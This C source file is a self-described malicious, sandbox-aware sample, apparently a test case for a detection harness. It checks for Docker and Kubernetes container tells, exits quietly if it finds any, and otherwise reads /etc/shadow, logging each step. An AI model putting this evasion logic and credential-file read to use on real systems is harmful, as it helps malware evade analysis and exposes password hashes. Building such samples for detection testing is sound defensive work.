/* Malicious, sandbox-aware: checks the usual container/sandbox tells first — /.dockerenv, a
 * 12-hex-character hostname (Docker's default), "docker" in /proc/1/cgroup — and stays quiet (exits
 * 0 at once) if it sees any. Otherwise it acts: reads /etc/shadow (T1497.001 then T1003.008). */
#include "common.h"
#include <ctype.h>
#include <fcntl.h>
static int hex12(const char *s) {
  if (strlen(s) != 12) return 0;
  for (; *s; s++) if (!isxdigit((unsigned char)*s) || isupper((unsigned char)*s)) return 0;
  return 1;
}
int main(void) {
  int fd = open("/.dockerenv", O_RDONLY);
  if (fd >= 0) { close(fd); SAY("tell-evasive: /.dockerenv present, staying quiet"); return 0; }
  char host[256] = {0};
  gethostname(host, sizeof host - 1);
  if (hex12(host)) { SAY("tell-evasive: hostname %s looks like a container id, staying quiet", host); return 0; }
  fd = open("/proc/1/cgroup", O_RDONLY);
  if (fd >= 0) {
    char buf[8192];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    buf[n > 0 ? n : 0] = '\0';
    if (strstr(buf, "docker") || strstr(buf, "kubepods")) { SAY("tell-evasive: /proc/1/cgroup names a container engine, staying quiet"); return 0; }
  }
  SAY("tell-evasive: no sandbox seen (hostname %s), acting", host);
  fd = open("/etc/shadow", O_RDONLY);
  if (fd < 0) { WARN("open /etc/shadow"); return 1; }
  char sh[4096];
  ssize_t n = read(fd, sh, sizeof sh);
  close(fd);
  SAY("tell-evasive: read %zd bytes of /etc/shadow", n);
  return 0;
}
